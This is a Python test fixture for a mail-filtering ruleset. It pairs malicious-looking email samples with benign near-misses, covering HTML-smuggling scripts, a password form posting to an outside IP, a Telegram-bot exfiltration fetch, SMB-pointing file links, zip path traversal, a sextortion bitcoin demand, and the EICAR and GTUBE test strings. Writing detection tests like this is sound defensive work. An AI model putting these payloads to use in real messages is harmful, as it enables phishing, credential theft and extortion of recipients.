# SPDX-License-Identifier: BSD-3-Clause
"""Sessions for rules/signatures/mail.rules."""
import struct

from .session import Row, mail

LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(120)
RTF = r"{\rtf1{\object\objemb{\*\objdata 01050000020000000b000000%s}}}"
AUTO = r"{\rtf1{\object\objautlink\objupdate\rsltpict{\*\objdata 0105}}}"
TNEF = b"\x78\x9f\x3e\x22\1\0" + bytes(60) + b"\\\\198.51.100.9\\share\\x.wav\0" + bytes(20)
BLOB = "<script>var b = new Blob([x]); window.navigator.msSaveOrOpenBlob(b, 'a.zip')</script>"
CLICK = "<script>a.href = URL.createObjectURL(f(atob('UEsD'))); a.download = 'a.zip'; a.click()</script>"
FORM = '<form method="post" action="https://203.0.113.9/p.php"><input type="password" name="p"></form>'
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = "https://203.0.113.9"</script></svg>'
BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text=" + p)'
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GTUBE = "XJS*C4JDBQADN1.NSBN3*2IDNEN*" + "GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\r\n"
THREAT = "I recorded you by your webcam. Send 0.1 bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\r\n"
MONIKER = '<a href="file:///\\\\198.51.100.9\\x\\y.rtf!something">here</a>\r\n'
SCRIPT = {"X-PHP-Originating-Script": "1000:x.php(3) : eval()'d code"}


def zipped(name, flags=0):
    return b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, flags, 8, 0, 0, 0, 90, 90, len(name),
    0) + name.encode() + b"\x8d" * 90


def attached(name, content="x", kind="application/octet-stream", **kw):
    return mail(parts=[(name, kind, content)], **kw)


def page(text, name="invoice.html"):
    return attached(name, text, "text/html")


ROWS = [
    Row(9009001, attached("invoice.js"), attached("invoice.json")),
    Row(9009002, attached("a.bin", LINK), attached("a.bin", b"\0" + LINK)),
    Row(9009003, attached("scan.iso"), attached("scan.iso.txt")),
    Row(9009004, attached("a.zip", zipped("invoice.vbs")), attached("a.zip", zipped("invoice.pdf"))),
    Row(9009005, attached("a.zip", zipped("invoice.iso", 1)), attached("a.zip", zipped("invoice.iso"))),
    Row(9009006, attached("a.chm", b"ITSF\3\0\0\0" + bytes(60)), attached("a.chm", b"ITSP\3\0\0\0" + bytes(60))),
    Row(9009007, attached("a.one", ONENOTE + b"<job id='a'>"), attached("a.one", ONENOTE + b"shopping list")),
    Row(9009008, attached("a.xll"), attached("a.xls")),
    Row(9009009, attached("a.jar", zipped("META-INF/MANIFEST.MF")), attached("a.jar", "not an archive")),
    Row(9009010, attached("setup.msi"), attached("setup.msg")),
    Row(9009011, attached("a.bin", b"\1\2\x31\0\0\0\x90**ACE**\x14\x14" + bytes(40)),
        attached("a.bin", b"**ACE** is a format")),
    Row(9009012, attached("office.rdp", "full address:s:198.51.100.9\r\n"),
        attached("office.rdp", "screen mode id:i:2\r\n")),
    Row(9009013, attached("a.url", "[InternetShortcut]\r\nURL=file://198.51.100.9/x/a.exe\r\n"),
        attached("a.url", "[InternetShortcut]\r\nURL=https://www.example.com/\r\n")),
    Row(9009014, attached("photo\u202egnp.bin"), attached("photo-gnp.bin")),
    Row(9009015, attached("a.doc", RTF % "4571756174696f6e2e33"), attached("a.doc", RTF % "4571756174696f6e2e32")),
    Row(9009016, attached("a.doc", AUTO), attached("a.doc", AUTO.replace("\\objupdate", ""))),
    Row(9009017, attached("winmail.dat", TNEF), attached("winmail.dat", TNEF.replace(b"\\\\198", b"C:\\198"))),
    Row(9009018, mail(MONIKER, kind="text/html"), mail(MONIKER.replace("!", "/"), kind="text/html")),
    Row(9009019, attached("a.zip", zipped("../../../x.txt")), attached("a.zip", zipped("x/y.txt"))),
    Row(9009020, page(BLOB), page(BLOB.replace("msSave", "save"))),
    Row(9009021, page(CLICK), page(CLICK.replace(".click", ".focus"))),
    Row(9009022, page(FORM), page(FORM.replace('"password"', '"text"'))),
    Row(9009023, attached("a.svg", DRAWING, "image/svg+xml"),
        attached("a.svg", DRAWING.replace("script", "desc"), "image/svg+xml")),
    Row(9009024, page("<script>document.write(unescape('%3Cp%3E'))</script>"),
        page("<script>document.write('<p>')</script>")),
    Row(9009025, page(BOT), page(BOT.replace("sendMessage", "getMe"))),
    Row(9009026, mail(headers={"X-Mailer": "Leaf PHPMailer 2.8"}), mail(headers={"X-Mailer": "PHPMailer 6.9"})),
    Row(9009027, mail(headers=SCRIPT), mail(headers={"X-PHP-Originating-Script": "1000:class-phpmailer.php"})),
    Row(9009028, mail(from_='"boss@example.com" <x91@mailer.example.net>'),
        mail(from_='"boss@example.com" <boss@example.com>')),
    Row(9009029, mail(helo="ylmf-pc"), mail(helo="ylmf-pc2.example.org")),
    Row(9009030, mail(helo="User"), mail(helo="User.example.org")),
    Row(9009031, mail(way="out", times=60), mail(way="out", times=59)),
    Row(9009032, mail(THREAT), mail(THREAT.replace("webcam", "phone").replace("recorded you", "saw"))),
    Row(9009033, attached("eicar.com.txt", EICAR), attached("eicar.com.txt", EICAR[1:])),
    Row(9009034, mail(GTUBE), mail(GTUBE[1:])),
]
